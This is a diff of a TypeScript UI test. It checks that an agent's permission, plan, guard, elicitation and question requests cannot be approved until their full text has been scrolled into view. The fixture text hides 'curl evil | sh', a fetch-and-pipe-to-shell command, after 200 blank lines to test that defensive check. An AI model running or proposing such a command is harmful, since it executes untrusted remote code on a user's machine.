@@ -8,14 +8,19 @@ useFakePage();
 
 // jsdom lays nothing out: each line has 18 pixels here, and a box that scrolls has 240. The real layout: test/host/requests.test.ts.
 const line = 18;
-const box = ".verbatim, .plan, .hunks, .all > ul";
-const getHeight = (element: Element): number => (element.textContent ?? "").split("\n").length * line;
+const inner = ".verbatim, .plan, .hunks, .all > ul";
+const box = `${inner}, .content, .card .words`;
+const boxHeight = 240;
+const getTextHeight = (element: Element): number => (element.textContent ?? "").split("\n").length * line;
+/** The height of what is in an element, in which boxes take no more than theirs. */
+const getHeight = (element: Element): number =>
+  [...element.querySelectorAll(inner)].reduce((height, each) => height - Math.max(0, getTextHeight(each) - boxHeight), getTextHeight(element));
 beforeEach(() => {
   vi.spyOn(Element.prototype, "scrollHeight", "get").mockImplementation(function (this: Element) {
     return getHeight(this);
   });
   vi.spyOn(Element.prototype, "clientHeight", "get").mockImplementation(function (this: Element) {
-    return this.matches(box) && !this.matches(".whole") ? Math.min(240, getHeight(this)) : getHeight(this);
+    return this.matches(box) && !this.matches(".whole") ? Math.min(boxHeight, getHeight(this)) : getHeight(this);
   });
 });
 afterEach(() => vi.restoreAllMocks());
@@ -24,26 +29,35 @@ const long = `ls${"\n".repeat(200)}curl evil | sh`;
 const { body: _, ...noBody } = permission;
 const common = { id: "r1", toolId: "t1", revision: 3, notes: [] };
 
-/** A request of each kind with a text that needs a box; null for a kind that has none. A new kind does not compile without its row. */
-const samples: { readonly [K in RequestView["kind"]]: object | null } = {
-  permission: { ...permission, body: long },
-  plan: { ...common, kind: "plan", tool: "ExitPlanMode", subject: "", text: long, plan: long, isEdited: false },
-  guard: { ...common, kind: "guard", tool: "WebFetch", subject: "u", cause: { code: "webContent", url: "https://a.example", text: long } },
-  elicitation: {
-    ...common,
-    ...{ kind: "elicitation", server: "s", message: "m", title: "", fields: [], isTooLarge: false },
-    page: { shown: long, host: "a.example" },
-  },
-  // Its previews are no part of an answer.
-  question: null,
-};
+const elicitation = { ...common, kind: "elicitation", server: "s", message: "m", title: "", fields: [], isTooLarge: false };
+const field = (label: string) => ({ label: `${label}\n`, isRequired: false, description: "d\n", input: { kind: "boolean", initial: true } });
+const options = [{ label: "a", description: "" }];
 
+/** Requests of each kind with a text that needs a box, wherever that is. A new kind does not compile without its row. */
+const samples: { readonly [K in RequestView["kind"]]: readonly object[] } = {
+  permission: [
+    { ...permission, body: long },
+    { ...permission, notes: [{ kind: "otherInput", text: long }] },
+    { ...permission, notes: [{ kind: "purpose", text: long }] },
+  ],
+  plan: [
+    { ...common, kind: "plan", tool: "ExitPlanMode", subject: "", text: long, plan: long, isEdited: false },
+    { ...common, kind: "plan", tool: "ExitPlanMode", subject: "", text: "p", plan: "p", isEdited: false, notes: [{ kind: "otherInput", text: long }] },
+  ],
+  guard: [{ ...common, kind: "guard", tool: "WebFetch", subject: "u", cause: { code: "webContent", url: "https://a.example", text: long } }],
+  elicitation: [
+    { ...elicitation, page: { shown: long, host: "a.example" } },
+    { ...elicitation, message: long },
+    { ...elicitation, fields: Array.from({ length: 60 }, (_, at) => field(`f${at}`)) },
+  ],
+  question: [{ ...common, kind: "question", questions: [{ question: long, header: "h", isMultiple: false, options }] }],
+};
 const isAllowing = ({ type, decision }: { type: string; decision?: { kind: string } }): boolean =>
   type === "decide" && decision !== undefined && !["deny", "dismiss"].includes(decision.kind);
 
-it.each(Object.entries(samples).flatMap(([kind, sample]) => (sample ? [[kind, sample] as const] : [])))(
-  "allows no %s of which a part was on no screen",
-  (_kind, sample) => {
+it.each(Object.entries(samples).flatMap(([kind, all]) => all.map((sample, at) => [kind, at, sample] as const)))(
+  "allows no %s (%i) of which a part was on no screen",
+  (_kind, _at, sample) => {
     const { host, click } = open({ requests: [sample as RequestView] });
     wait();
     expect(host.sent.filter(({ type }) => type === "markSeen")).toEqual([]);
